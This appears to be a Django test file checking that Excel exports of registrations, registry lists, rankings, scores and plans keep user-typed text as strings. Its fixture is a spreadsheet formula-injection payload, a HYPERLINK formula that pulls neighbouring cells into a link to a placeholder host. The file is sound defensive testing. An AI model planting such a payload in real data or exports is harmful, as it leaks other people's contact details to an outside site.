"""Every Excel download keeps text typed by people as text: a name like `=HYPERLINK(...&B2&C2...)` opens in Excel as
those characters, not as a live formula that reads the neighbouring cells (other people's e-mail and phone) into a
link. One test per download that carries such text; the builder itself is tested in tests/core/test_xlsx.py."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from innoinfra.events.models import Registration
from innoinfra.plans.exports import plan_xlsx
from innoinfra.review.enums import StageKind

from .events.factories import make_event
from .factories import OrganizationFactory, UserFactory, make_site
from .plans.factories import make_plan
from .review.factories import make_call
from .review.test_ranking_views import application_in_review, score

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x/?"&B2&C2,"click")'


def cells_of(content: bytes):
    return [cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row]


def assert_text(content: bytes, text: str = HOSTILE, *, times: int = 1):
    """The text is in the sheet, as a string cell holding it unchanged; no cell is a formula."""
    cells = cells_of(content)
    holding = [cell for cell in cells if cell.value == text]
    assert len(holding) >= times, [cell.value for cell in cells]
    assert {cell.data_type for cell in holding} == {"s"}
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_an_anonymous_registration_is_text_in_the_participants_table(client, client_for, methodist, school):
    event = make_event(school, questions=[{"label": "Тема выступления", "required": False}])
    data = {"full_name": HOSTILE, "email": "x@example.org", "organization_name": HOSTILE, "answer_0": HOSTILE}
    response = client.post(f"/events/{event.pk}/", {**data, "consent": "on"})
    assert response.status_code == 302 and Registration.objects.get().full_name == HOSTILE

    response = client_for(methodist).get(f"/events/{event.pk}/participants.xlsx")

    assert response.status_code == 200
    assert_text(response.content, times=3)  # the name, the organization, the answer


def test_names_and_themes_are_text_in_the_registry_lists(client, school):
    organization = OrganizationFactory(municipality=school.municipality, short_name=HOSTILE, full_name=HOSTILE)
    make_site(organization=organization, theme=HOSTILE)

    assert_text(client.get("/registry/?format=xlsx").content, times=2)  # the organization and the theme
    assert_text(client.get("/registry/organizations/?format=xlsx").content, times=2)
    assert_text(client.get("/registry/map/matrix/?format=xlsx").content)


def test_themes_and_comments_are_text_in_the_ranking_and_the_scores(client_for, methodist, amursky, school):
    expert = UserFactory(username="formula-expert")
    call = make_call(amursky, panel=[expert], stage=StageKind.RESULTS)
    application = application_in_review(call, school, HOSTILE, [expert])
    score(application, expert, [2, 1, 2], comments=[HOSTILE], conclusion=HOSTILE)
    client = client_for(methodist)

    ranking = client.get(f"/calls/{call.pk}/ranking.xlsx")
    scores = client.get(f"/calls/{call.pk}/scores.xlsx")

    assert ranking.status_code == scores.status_code == 200
    assert_text(ranking.content)
    assert_text(scores.content, times=2)  # the theme and the expert's comment


def test_plan_items_are_text_in_the_plan_download(school):
    plan = make_plan(school, items=((HOSTILE, "октябрь"),))

    assert_text(plan_xlsx(plan))
